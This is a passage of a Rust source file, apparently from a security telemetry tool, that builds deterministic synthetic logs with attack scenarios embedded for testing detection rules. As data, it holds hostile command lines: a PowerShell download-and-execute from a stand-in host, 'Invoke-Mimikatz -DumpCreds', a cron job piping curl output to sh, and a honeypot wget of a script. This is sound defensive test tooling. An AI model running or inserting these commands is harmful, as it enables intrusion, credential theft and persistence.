//! The `generator` source: synthetic but realistic security telemetry, seeded and
//! deterministic, also Ward's demo loader.
//!
//! Record `k` is a pure function of (seed, k): its kind, content and event time
//! (`start + k * interval_ms`). Worker `w` of `W` produces the records with `k % W == w`,
//! so the set of records does not depend on the worker count. Every 1,000 records form a
//! block; each block carries one attack scenario at fixed positions:
//! - block % 4 == 0: Windows brute force (8 × 4625 for `svc-backup` from a TI-listed
//!   address), a successful logon, then the same account added to Administrators (4732);
//! - block % 4 == 1: encoded PowerShell (Sysmon 1 with `-EncodedCommand`) and a DNS query
//!   to a TI-listed domain;
//! - block % 4 == 2: firewall traffic to TI-listed addresses on 445, a large Zeek transfer
//!   and a DNS beacon to a TI-listed domain;
//! - block % 4 == 3: SSH brute force on a Linux host, a successful login, sudo to root and
//!   `usermod` adding the account to `sudo`.
//!
//! With `cloud: true`, one background record in five is a cloud, identity or network record, and
//! every block carries at positions 500-507: CloudTrail `StopLogging`, an Okta API token
//! created, an Azure NSG rule written, a GuardDuty finding of severity 8, a Suricata
//! severity-1 alert, a VPC flow REJECT to RDP, an M365 "activity performed by terminated
//! user" alert and a GCP DLP re-identification.
//!
//! With `hosts: true`, one background record in ten is host state from osquery (snapshot rows of
//! `processes` on the Linux hosts) or a Cowrie honeypot session step (bots connecting and failing
//! to log in), and every block carries at positions 600-650: on a Linux host, osquery differential
//! results for a listening port opened by a binary in `/tmp`, a local user added, a cron autorun
//! added, a binary written to `/tmp` and a development server's port opened (closed at 650); and on the honeypot an SSH
//! session that fails, then succeeds to log in as root, types commands and downloads a file.
//!
//! With `malformed_every: N`, one record in N is deliberately broken (truncated JSON,
//! truncated syslog, invalid UTF-8, a bad timestamp, unknown text) to exercise quarantine.

use std::io::Write;
use std::sync::Arc;
use std::time::{Duration, Instant};

use base64::Engine;
use chrono::{Datelike, Timelike};
use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use ward_engine::batch::EventBatch;
use ward_engine::component::{Source, SourceFactory, SourcePoll, StreamKind, WorkerContext};
use ward_engine::registry::{BuildContext, Built, ComponentConfig, Section};

/// Generate synthetic security telemetry.
#[derive(Clone, Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct GeneratorConfig {
    /// Records to produce in all (0: without end).
    #[serde(default = "default_count")]
    pub count: u64,
    /// Records per second over all workers (0: as fast as possible).
    #[serde(default)]
    pub rate: u64,
    #[serde(default = "default_seed")]
    pub seed: u64,
    /// Event time of record 0 (RFC 3339).
    #[serde(default = "default_start")]
    pub start_time: String,
    /// Event-time distance between consecutive records, in milliseconds.
    #[serde(default = "default_interval")]
    pub interval_ms: u64,
    /// Mix attack scenarios into the stream.
    #[serde(default = "yes")]
    pub scenarios: bool,
    /// One record in N is deliberately malformed (0: none).
    #[serde(default)]
    pub malformed_every: u64,
    /// How Windows events are shaped: `evtx-json` (EVTX exported as JSON), `winlogbeat`
    /// (Winlogbeat 8 ECS documents), `nxlog` (`im_msvistalog` + `to_json()`) or `flat` (the
    /// flat Sigma convention). The same events in every shape.
    #[serde(default)]
    pub windows_shape: WindowsShape,
    /// Also produce cloud, identity and network sources as they are delivered: CloudTrail
    /// records, GuardDuty findings, VPC flow log text, Suricata EVE, Okta, Azure diagnostic
    /// records, M365 audit and GCP audit entries (one in five background records), with one
    /// attack per source at positions 500-507 of every block.
    #[serde(default)]
    pub cloud: bool,
    /// Also produce host state and honeypot logs: osquery scheduled-query results (event
    /// format; differential rows `added` / `removed` and snapshot rows) and Cowrie JSON (one
    /// background record in ten), with a host compromise and a honeypot session at positions
    /// 600-650 of every block.
    #[serde(default)]
    pub hosts: bool,
}

#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum WindowsShape {
    #[default]
    EvtxJson,
    Winlogbeat,
    Nxlog,
    Flat,
}

fn default_count() -> u64 {
    100_000
}
fn default_seed() -> u64 {
    42
}
fn default_start() -> String {
    "2026-01-05T08:00:00Z".into()
}
fn default_interval() -> u64 {
    10
}
fn yes() -> bool {
    true
}

impl ComponentConfig for GeneratorConfig {
    const TYPE: &'static str = "generator";
    const SECTION: Section = Section::Source;
    const DESCRIPTION: &'static str = "Synthetic Windows, Linux, Zeek and firewall telemetry with attack scenarios";
    const ACCEPTS: &'static [StreamKind] = &[];
    const OUTPUT: Option<StreamKind> = Some(StreamKind::Records);

    fn build(self, _ctx: &BuildContext<'_>) -> anyhow::Result<Built> {
        use ward_engine::limits::check_range;
        check_range("rate", self.rate, 0, 1_000_000_000)?;
        check_range("interval_ms", self.interval_ms, 0, 86_400_000)?;
        let start = chrono::DateTime::parse_from_rfc3339(&self.start_time)
            .map_err(|e| anyhow::anyhow!("start_time `{}`: {e}", self.start_time))?
            .timestamp_millis();
        Ok(Built::Source(Arc::new(GeneratorFactory { config: self, start_ms: start })))
    }
}

struct GeneratorFactory {
    config: GeneratorConfig,
    start_ms: i64,
}

impl SourceFactory for GeneratorFactory {
    fn create(&self, ctx: &WorkerContext) -> anyhow::Result<Box<dyn Source>> {
        Ok(Box::new(Generator::new(
            ctx.component_id.clone(),
            self.config.clone(),
            self.start_ms,
            ctx.worker_index as u64,
            ctx.workers as u64,
        )))
    }
}

pub struct Generator {
    component: Arc<str>,
    partition: Arc<str>,
    config: GeneratorConfig,
    start_ms: i64,
    next_k: u64,
    step: u64,
    started: Option<Instant>,
    produced: u64,
    buf: Vec<u8>,
    encoded_commands: Vec<String>,
    /// Records produced by earlier runs (restored from checkpoints): see [`Progress::done`].
    history: Vec<Level>,
}

/// What the instances of one earlier run had produced: instance `i` of `next.len()` produces
/// the indices `k ≡ i (mod n)` in order, so it had produced every such `k < next[i]`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
struct Level {
    next: Vec<u64>,
}

/// A generator instance's checkpoint.
#[derive(Debug, Serialize, Deserialize)]
struct Position {
    worker: u64,
    workers: u64,
    next_k: u64,
    history: Vec<Level>,
}

impl Level {
    fn done(&self, k: u64) -> bool {
        let n = self.next.len() as u64;
        n > 0 && k < self.next[(k % n) as usize]
    }
}

/// SplitMix64: a tiny, well-known mixer; good enough for synthetic data and stable forever.
fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = mix(self.0);
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.below(xs.len() as u64) as usize]
    }
}

const WORKSTATIONS: &[&str] = &[
    "ws-01.corp.local",
    "ws-02.corp.local",
    "ws-03.corp.local",
    "ws-04.corp.local",
    "ws-05.corp.local",
    "ws-06.corp.local",
    "ws-07.corp.local",
    "ws-08.corp.local",
    "ws-09.corp.local",
    "ws-10.corp.local",
];
const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
const LINUX_HOSTS: &[&str] = &["web-01", "web-02", "db-01", "bastion"];
const BENIGN: &[(&str, &str)] = &[
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
    ),
    ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\Public\\notes.txt"),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
    ),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c dir C:\\Users"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
];
const PUBLIC_DST: &[&str] = &["198.51.100.7", "198.51.100.23", "203.0.113.40", "203.0.113.41", "192.0.2.80"];
const DOMAINS: &[&str] =
    &["www.example.com", "login.example.net", "cdn.example.org", "updates.example.com", "mail.example.com"];
const TI_IP: &str = "45.155.205.233";

impl Generator {
    pub fn new(component: Arc<str>, config: GeneratorConfig, start_ms: i64, worker: u64, workers: u64) -> Self {
        let encoded_commands = [
            "IEX (New-Object Net.WebClient).DownloadString('http://dl.badcdn.example/payload.ps1')",
            "Invoke-Mimikatz -DumpCreds",
            "Start-Process -WindowStyle Hidden -FilePath C:\\Users\\Public\\svc.exe",
        ]
        .iter()
        .map(|c| {
            let utf16: Vec<u8> = c.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
            base64::engine::general_purpose::STANDARD.encode(utf16)
        })
        .collect();
        Generator {
            component,
            partition: "generator".into(),
            config,
            start_ms,
            next_k: worker,
            step: workers.max(1),
            started: None,
            produced: 0,
            buf: Vec::with_capacity(1024),
            encoded_commands,
            history: Vec::new(),
        }
    }

    /// Writes record `k` into `self.buf`.
    pub fn record(&mut self, k: u64) {
        self.write_record(k);
        if self.config.windows_shape != WindowsShape::EvtxJson && self.buf.starts_with(br#"{"Event":{"System""#) {
            reshape(&mut self.buf, self.config.windows_shape);
        }
    }

    fn write_record(&mut self, k: u64) {
        self.buf.clear();
        let ts = self.start_ms + (k * self.config.interval_ms) as i64;
        let mut rng = Rng(mix(self.config.seed ^ mix(k)));
        let every = self.config.malformed_every;
        if every > 0 && k % every == every / 2 {
            self.malformed(k / every, ts);
            return;
        }
        let block = k / 1000;
        let p = k % 1000;
        if self.config.scenarios && self.scenario(block, p, ts, k, &mut rng) {
            return;
        }
        if self.config.hosts {
            if self.config.scenarios && (600..=650).contains(&p) && self.host_attack(p - 600, block, ts) {
                return;
            }
            if rng.below(10) == 0 {
                self.host_benign(ts, k, &mut rng);
                return;
            }
        }
        if self.config.cloud {
            if self.config.scenarios && (500..=507).contains(&p) {
                self.cloud_attack(p - 500, ts, k);
                return;
            }
            if rng.below(5) == 0 {
                let which = rng.below(8);
                self.cloud_benign(which, ts, k, &mut rng);
                return;
            }
        }
        match rng.below(100) {
            0..=24 => {
                let (image, cmd) = BENIGN[rng.below(BENIGN.len() as u64) as usize];
                let host = rng.pick(WORKSTATIONS);
                let user = rng.pick(USERS);
                self.sysmon_process(ts, k, host, user, image, cmd, "C:\\Windows\\explorer.exe", &mut rng);
            }
            25..=34 => {
                let host = rng.pick(WORKSTATIONS);
                let dst = rng.pick(PUBLIC_DST);
                self.sysmon_network(ts, k, host, dst, 443, &mut rng);
            }
            roll @ 35..=49 => {
                // Mostly successful logons, some failures (typos, expired passwords).
                let id = if roll < 45 { 4624 } else { 4625 };
                let user = rng.pick(USERS);
                let host = rng.pick(WORKSTATIONS);
                let ip = Ipv4Text::new([10, 10, rng.below(4) as u8, (10 + rng.below(200)) as u8]);
                self.security_logon(ts, k, id, "dc1.corp.local", user, ip.as_str(), host);
            }
            50..=59 => {
                let host = rng.pick(LINUX_HOSTS);
                let user = rng.pick(USERS);
                let ip = Ipv4Text::new([10, 20, rng.below(4) as u8, (2 + rng.below(250)) as u8]);
                let ok = rng.below(4) != 0;
                self.sshd(ts, host, ok, user, ip.as_str(), &mut rng);
            }
            60..=74 => {
                let dst = rng.pick(PUBLIC_DST);
                let bytes = rng.below(200_000);
                self.zeek_conn(ts, k, dst, 443, bytes, &mut rng);
            }
            75..=84 => {
                let q = rng.pick(DOMAINS);
                self.zeek_dns(ts, k, q, &mut rng);
            }
            _ => {
                let dst = rng.pick(PUBLIC_DST);
                let port = [443u16, 80, 53, 22, 8443][rng.below(5) as usize];
                self.fortigate(ts, dst, port, "accept", &mut rng);
            }
        }
    }

    fn scenario(&mut self, block: u64, p: u64, ts: i64, k: u64, rng: &mut Rng) -> bool {
        match (block % 4, p) {
            (0, 100..=107) => self.security_logon(ts, k, 4625, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
            (0, 110) => self.security_logon(ts, k, 4624, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
            (0, 120) => self.security_group_add(ts, k, "dc1.corp.local", "svc-backup"),
            (1, 200) => {
                let enc = self.encoded_commands[(block as usize / 4) % self.encoded_commands.len()].clone();
                let cmd = format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {enc}");
                self.sysmon_process(
                    ts,
                    k,
                    "ws-07.corp.local",
                    "alice",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    &cmd,
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    rng,
                )
            }
            (1, 201) => self.zeek_dns(ts, k, "update-check.badcdn.example", rng),
            (2, 300..=303) => {
                let dst = format!("185.220.101.{}", p - 290);
                self.fortigate(ts, &dst, 445, "deny", rng)
            }
            (2, 305) => self.zeek_conn(ts, k, TI_IP, 443, 48_000_000, rng),
            (2, 306) => self.zeek_dns(ts, k, "beacon.evil-c2.example", rng),
            (3, 400..=405) => self.sshd(ts, "bastion", false, "root", "185.220.101.9", rng),
            (3, 410) => self.sshd(ts, "bastion", true, "deploy", "185.220.101.9", rng),
            (3, 415) => self.syslog_line(
                ts,
                "bastion",
                "sudo",
                None,
                "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
            ),
            (3, 416) => self.syslog_line(ts, "bastion", "usermod", Some(31337), "add 'deploy' to group 'sudo'"),
            _ => return false,
        }
        true
    }

    /// One osquery result row in the event format (`action`: added, removed or snapshot).
    fn osquery(&mut self, ts: i64, host: &str, query: &str, action: &str, columns: &str) {
        let _ = write!(
            self.buf,
            r#"{{"name":"pack_ward-lab_{query}","hostIdentifier":"{host}","calendarTime":"","unixTime":{},"epoch":0,"counter":1,"numerics":false,"columns":{columns},"action":"{action}"}}"#,
            ts.div_euclid(1000)
        );
    }

    /// One Cowrie JSON log line of session `session`; `extra`: the event's own fields.
    fn cowrie(&mut self, ts: i64, session: &str, src: &str, eventid: &str, extra: &str) {
        let _ = write!(self.buf, r#"{{"eventid":"{eventid}","timestamp":""#);
        self.win_time(ts);
        let _ = write!(
            self.buf,
            r#"","sensor":"honeypot-01","src_ip":"{src}","src_port":{},"dst_ip":"10.0.9.10","dst_port":22,"session":"{session}","protocol":"ssh"{extra}}}"#,
            40000 + (ts.rem_euclid(20000))
        );
    }

    /// Host state and honeypot background: process snapshots and bots failing to log in.
    fn host_benign(&mut self, ts: i64, k: u64, rng: &mut Rng) {
        if rng.below(2) == 0 {
            let host = rng.pick(LINUX_HOSTS);
            let (name, path) = [("sshd", "/usr/sbin/sshd"), ("nginx", "/usr/sbin/nginx"), ("cron", "/usr/sbin/cron")]
                [rng.below(3) as usize];
            let pid = 100 + rng.below(30000);
            self.osquery(
                ts,
                host,
                "processes",
                "snapshot",
                &format!(r#"{{"pid":"{pid}","name":"{name}","path":"{path}","cmdline":"{path}","parent":"1"}}"#),
            );
        } else {
            // Three records per bot session: connect, a failed login, close.
            let id = mix(k / 3);
            let session = format!("{:012x}", id & 0xffff_ffff_ffff);
            let src = format!("198.51.100.{}", 1 + id % 250);
            match k % 3 {
                0 => self.cowrie(ts, &session, &src, "cowrie.session.connect", r#","message":"New connection""#),
                1 => {
                    let user = ["admin", "root", "pi", "ubnt"][rng.below(4) as usize];
                    self.cowrie(
                        ts,
                        &session,
                        &src,
                        "cowrie.login.failed",
                        &format!(r#","username":"{user}","password":"{user}123""#),
                    )
                }
                _ => self.cowrie(ts, &session, &src, "cowrie.session.closed", r#","duration":2.5"#),
            }
        }
    }

    /// Position `p` (0-50) of a block's host compromise and honeypot session; false where
    /// the block has nothing.
    fn host_attack(&mut self, p: u64, block: u64, ts: i64) -> bool {
        let host = LINUX_HOSTS[(block % LINUX_HOSTS.len() as u64) as usize];
        let session = format!("{:012x}", mix(block ^ 0x5e55_1011) & 0xffff_ffff_ffff);
        let src = TI_IP;
        let port =
            r#"{"address":"0.0.0.0","port":"4444","pid":"31337","protocol":"6","path":"/tmp/.x/nc","name":"nc"}"#;
        let dev_server = r#"{"address":"0.0.0.0","port":"8080","pid":"2210","protocol":"6","path":"/usr/bin/python3","name":"python3"}"#;
        match p {
            0 => self.osquery(ts, host, "listening_ports", "added", port),
            1 => self.osquery(ts, host, "users", "added", r#"{"username":"sysupdate","uid":"1337","gid":"1337","shell":"/bin/bash","directory":"/var/tmp/.u"}"#),
            2 => self.osquery(
                ts,
                host,
                "crontab",
                "added",
                r#"{"name":"sysupdate","path":"/etc/cron.d/sysupdate","command":"curl -s http://update-check.badcdn.example/u | sh"}"#,
            ),
            3 => self.osquery(ts, host, "tmp_binaries", "added", r#"{"path":"/tmp/.x/nc","filename":"nc","size":"38912"}"#),
            4 => self.osquery(ts, host, "listening_ports", "added", dev_server),
            10 => self.cowrie(ts, &session, src, "cowrie.session.connect", r#","message":"New connection""#),
            11..=13 => self.cowrie(ts, &session, src, "cowrie.login.failed", r#","username":"root","password":"toor""#),
            14 => self.cowrie(ts, &session, src, "cowrie.login.success", r#","username":"root","password":"123456""#),
            15 => self.cowrie(ts, &session, src, "cowrie.command.input", r#","input":"uname -a""#),
            16 => self.cowrie(
                ts,
                &session,
                src,
                "cowrie.command.input",
                r#","input":"wget http://update-check.badcdn.example/x.sh -O /tmp/x.sh""#,
            ),
            17 => self.cowrie(
                ts,
                &session,
                src,
                "cowrie.session.file_download",
                r#","url":"http://update-check.badcdn.example/x.sh","shasum":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","outfile":"var/lib/cowrie/downloads/9f86d081""#,
            ),
            18 => self.cowrie(ts, &session, src, "cowrie.session.closed", r#","duration":31.2"#),
            50 => self.osquery(ts, host, "listening_ports", "removed", dev_server),
            _ => return false,
        }
        true
    }

    /// A benign record of cloud source `which` (0-7, in the order of `cloud_attack`).
    fn cloud_benign(&mut self, which: u64, ts: i64, k: u64, rng: &mut Rng) {
        let user = rng.pick(USERS);
        match which {
            0 => self.cloudtrail(ts, k, user, "ec2.amazonaws.com", "DescribeInstances", "10.10.1.20"),
            1 => self.okta(ts, k, user, "user.session.start", "User login to Okta"),
            2 => self.azure_signin(ts, k, user),
            3 => {
                let q = rng.pick(DOMAINS);
                self.suricata(
                    ts,
                    k,
                    "dns",
                    &format!(r#""dns":{{"type":"query","id":{},"rrname":"{q}","rrtype":"A"}}"#, rng.below(65536)),
                );
            }
            4 => self.vpc_flow(ts, "10.0.1.5", "52.94.76.10", 49152 + rng.below(16000), 443, "ACCEPT"),
            5 => self.m365(ts, k, user, "SharePoint", "FileAccessed", None),
            6 => self.gcp(ts, k, user, "compute.googleapis.com", "v1.compute.instances.list"),
            _ => self.guardduty(ts, k, 2, "Recon:EC2/PortProbeUnprotectedPort"),
        }
    }

    /// The attack of cloud source `which` that a SigmaHQ (or Ward) rule detects.
    fn cloud_attack(&mut self, which: u64, ts: i64, k: u64) {
        match which {
            0 => self.cloudtrail(ts, k, "mallory", "cloudtrail.amazonaws.com", "StopLogging", TI_IP),
            1 => self.okta(ts, k, "mallory", "system.api_token.create", "Create API token"),
            2 => {
                self.buf.extend_from_slice(br#"{"time":""#);
                self.win_time(ts);
                let _ = write!(
                    self.buf,
                    r#"","resourceId":"/SUBSCRIPTIONS/AAAA/RESOURCEGROUPS/PROD/PROVIDERS/MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WEB-NSG","operationName":"MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE","category":"Administrative","resultType":"Success","callerIpAddress":"{TI_IP}","correlationId":"gen-{k}","level":"Information","properties":{{"message":"Microsoft.Network/networkSecurityGroups/securityRules/write"}}}}"#
                );
            }
            3 => self.guardduty(ts, k, 8, "UnauthorizedAccess:EC2/SSHBruteForce"),
            4 => self.suricata(
                ts,
                k,
                "alert",
                r#""alert":{"action":"allowed","gid":1,"signature_id":2027865,"rev":3,"signature":"ET MALWARE Observed Cobalt Strike CnC Domain in TLS SNI","category":"A Network Trojan was detected","severity":1}"#,
            ),
            5 => self.vpc_flow(ts, TI_IP, "10.0.1.5", 51515, 3389, "REJECT"),
            6 => self.m365(ts, k, "SecurityComplianceAlerts", "SecurityComplianceCenter", "AlertTriggered", Some("Activity performed by terminated user")),
            _ => self.gcp(ts, k, "mallory", "dlp.googleapis.com", "projects.content.reidentify"),
        }
    }

    fn cloudtrail(&mut self, ts: i64, k: u64, user: &str, source: &str, name: &str, ip: &str) {
        self.buf.extend_from_slice(br#"{"eventVersion":"1.09","userIdentity":{"type":"IAMUser","principalId":"AIDA"#);
        let _ = write!(
            self.buf,
            r#"{k}","arn":"arn:aws:iam::123456789012:user/{user}","accountId":"123456789012","userName":"{user}"}},"eventTime":""#
        );
        self.win_time(ts);
        let _ = write!(
            self.buf,
            r#"","eventSource":"{source}","eventName":"{name}","awsRegion":"eu-west-1","sourceIPAddress":"{ip}","userAgent":"aws-cli/2.15.0","requestParameters":{{}},"responseElements":null,"requestID":"req-{k}","eventID":"gen-ct-{k}","readOnly":false,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"123456789012"}}"#
        );
    }

    fn okta(&mut self, ts: i64, k: u64, user: &str, event_type: &str, message: &str) {
        let _ = write!(self.buf, r#"{{"uuid":"gen-okta-{k}","published":""#);
        self.win_time(ts);
        let _ = write!(
            self.buf,
            r#"","eventType":"{event_type}","version":"0","severity":"INFO","displayMessage":"{message}","actor":{{"id":"00u{k}","type":"User","alternateId":"{user}@corp.example","displayName":"{user}"}},"client":{{"ipAddress":"198.51.100.20","userAgent":{{"rawUserAgent":"Mozilla/5.0"}}}},"outcome":{{"result":"SUCCESS"}},"target":[]}}"#
        );
    }

    fn azure_signin(&mut self, ts: i64, k: u64, user: &str) {
        self.buf.extend_from_slice(br#"{"time":""#);
        self.win_time(ts);
        let _ = write!(
            self.buf,
            r#"","resourceId":"/tenants/11111111-2222-3333-4444-555555555555/providers/Microsoft.aadiam","operationName":"Sign-in activity","category":"SignInLogs","tenantId":"11111111-2222-3333-4444-555555555555","resultType":"0","callerIpAddress":"198.51.100.30","correlationId":"gen-{k}","properties":{{"userPrincipalName":"{user}@corp.example","appDisplayName":"Office 365","ipAddress":"198.51.100.30","status":{{"errorCode":0}},"clientAppUsed":"Browser","conditionalAccessStatus":"success","authenticationRequirement":"multiFactorAuthentication","resourceDisplayName":"Office 365 Exchange Online"}}}}"#
        );
    }

    fn suricata(&mut self, ts: i64, k: u64, event_type: &str, body: &str) {
        self.buf.extend_from_slice(br#"{"timestamp":""#);
        self.win_time(ts);
        let _ = write!(
            self.buf,
            r#"","flow_id":{},"in_iface":"eth0","event_type":"{event_type}","src_ip":"10.0.1.5","src_port":{},"dest_ip":"185.220.101.9","dest_port":443,"proto":"TCP",{body}}}"#,
            1_000_000 + k,
            49152 + k % 16000
        );
    }

    fn vpc_flow(&mut self, ts: i64, src: &str, dst: &str, sport: u64, dport: u64, action: &str) {
        let start = ts / 1000;
        let _ = write!(
            self.buf,
            "2 123456789012 eni-0a1b2c3d {src} {dst} {sport} {dport} 6 3 180 {start} {} {action} OK",
            start + 60
        );
    }

    fn m365(&mut self, ts: i64, k: u64, user: &str, workload: &str, operation: &str, alert: Option<&str>) {
        let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
        let _ = write!(
            self.buf,
            r#"{{"CreationTime":"{}","Id":"gen-m365-{k}","Operation":"{operation}","OrganizationId":"org1","RecordType":{},"UserKey":"{user}","UserType":0,"Workload":"{workload}","ResultStatus":"{}","UserId":"{user}""#,
            t.format("%Y-%m-%dT%H:%M:%S"),
            if alert.is_some() { 40 } else { 6 },
            if alert.is_some() { "success" } else { "Succeeded" },
        );
        if let Some(name) = alert {
            let _ = write!(self.buf, r#","Name":"{name}","Severity":"Medium","Category":"ThreatManagement""#);
        }
        self.buf.push(b'}');
    }

    fn gcp(&mut self, ts: i64, k: u64, user: &str, service: &str, method: &str) {
        let _ = write!(
            self.buf,
            r#"{{"protoPayload":{{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{{"principalEmail":"{user}@corp.example"}},"requestMetadata":{{"callerIp":"198.51.100.50"}},"serviceName":"{service}","methodName":"{method}","resourceName":"projects/prod-1"}},"insertId":"gen-gcp-{k}","resource":{{"type":"audited_resource","labels":{{"project_id":"prod-1"}}}},"timestamp":""#
        );
        self.win_time(ts);
        self.buf.extend_from_slice(
            br#"","severity":"NOTICE","logName":"projects/prod-1/logs/cloudaudit.googleapis.com%2Factivity"}"#,
        );
    }

    fn guardduty(&mut self, ts: i64, k: u64, severity: u64, kind: &str) {
        let _ = write!(
            self.buf,
            r#"{{"schemaVersion":"2.0","accountId":"123456789012","region":"eu-west-1","partition":"aws","id":"gen-gd-{k}","type":"{kind}","resource":{{"resourceType":"Instance","instanceDetails":{{"instanceId":"i-0abc1234def567890"}}}},"service":{{"serviceName":"guardduty","action":{{"actionType":"NETWORK_CONNECTION","networkConnectionAction":{{"remoteIpDetails":{{"ipAddressV4":"{TI_IP}"}}}}}}}},"severity":{severity},"createdAt":""#
        );
        self.win_time(ts);
        self.buf.extend_from_slice(br#"","updatedAt":""#);
        self.win_time(ts);
        let _ = write!(self.buf, r#"","title":"{kind}"}}"#);
    }

    fn malformed(&mut self, n: u64, ts: i64) {
        let b = &mut self.buf;
        match n % 5 {
            0 => b.extend_from_slice(br#"{"Event":{"System":{"EventID":4625,"Channel":"Security","Comp"#),
            1 => b.extend_from_slice(b"<38>Jan  5 08:0"),
            2 => b.extend_from_slice(b"<38>Jan  5 08:00:00 web-01 sshd[1]: Failed password for \xff\xfe from 10.0.0.1"),
            3 => {
                let _ = write!(
                    b,
                    r##"{{"Event":{{"System":{{"EventID":1,"TimeCreated":{{"#attributes":{{"SystemTime":"not-a-time-{ts}"}}}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01.corp.local"}},"EventData":{{"Image":"C:\\x.exe"}}}}}}"##,
                );
            }
            _ => b.extend_from_slice(b"!!! garbage from a misconfigured forwarder !!!"),
        }
    }

    fn win_time(&mut self, ts: i64) {
        match ward_engine::batch::timestamp_ms_ascii(ts) {
            Some(text) => self.buf.extend_from_slice(&text),
            None => self.buf.extend_from_slice(ward_engine::batch::format_timestamp_ms(ts).as_bytes()),
        }
    }

    fn win_header(&mut self, ts: i64, k: u64, provider: &str, channel: &str, event_id: u32, computer: &str) {
        self.buf.s(r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":""##).s(provider);
        self.buf.s(r#""}},"EventID":"#).n(event_id);
        self.buf.s(
            r##","Version":2,"Level":4,"Keywords":"0x8020000000000000","TimeCreated":{"#attributes":{"SystemTime":""##,
        );
        self.win_time(ts);
        self.buf.s(r#""}},"EventRecordID":"#).n(k + 1).s(r#","Channel":""#).s(channel);
        self.buf.s(r#"","Computer":""#).s(computer).s(r#""},"EventData":{"#);
    }

    #[allow(clippy::too_many_arguments)]
    fn sysmon_process(
        &mut self,
        ts: i64,
        k: u64,
        host: &str,
        user: &str,
        image: &str,
        cmd: &str,
        parent: &str,
        rng: &mut Rng,
    ) {
        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, host);
        let pid = 1000 + rng.below(30000);
        let b = &mut self.buf;
        b.s(r#""RuleName":"-","ProcessId":"#).n(pid).s(r#","Image":"#).json(image).s(r#","CommandLine":"#).json(cmd);
        b.s(r#","CurrentDirectory":"C:\\Users\\"#).s(user).s(r#"\\","User":"CORP\\"#).s(user);
        b.s(r#"","IntegrityLevel":"Medium","Hashes":"SHA256="#).hex(rng.next()).hex(rng.next());
        b.s(r#"","ParentProcessId":"#).n(500 + rng.below(5000)).s(r#","ParentImage":"#).json(parent);
        b.s(r#","ParentCommandLine":"#).json(parent).s("}}}");
    }

    fn sysmon_network(&mut self, ts: i64, k: u64, host: &str, dst: &str, port: u16, rng: &mut Rng) {
        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 3, host);
        let b = &mut self.buf;
        b.s(r#""RuleName":"-","ProcessId":"#).n(1000 + rng.below(30000));
        b.s(r#","Image":"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe","User":"CORP\\"#);
        b.s(rng.pick(USERS)).s(r#"","Protocol":"tcp","Initiated":"true","SourceIp":"10.10.1."#).n(10 + rng.below(200));
        b.s(r#"","SourcePort":"#).n(49152 + rng.below(16000)).s(r#","DestinationIp":""#).s(dst);
        b.s(r#"","DestinationPort":"#).n(port).s("}}}");
    }

    #[allow(clippy::too_many_arguments)]
    fn security_logon(&mut self, ts: i64, k: u64, id: u32, dc: &str, user: &str, ip: &str, workstation: &str) {
        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", id, dc);
        let status =
            if id == 4625 { r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""# } else { "" };
        let b = &mut self.buf;
        b.s(r#""SubjectUserSid":"S-1-0-0","TargetUserName":""#).s(user);
        b.s(r#"","TargetDomainName":"CORP","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":""#);
        b.s(workstation).s(r#"","IpAddress":""#).s(ip).s(r#"","IpPort":"-""#).s(status).s("}}}");
    }

    fn security_group_add(&mut self, ts: i64, k: u64, dc: &str, user: &str) {
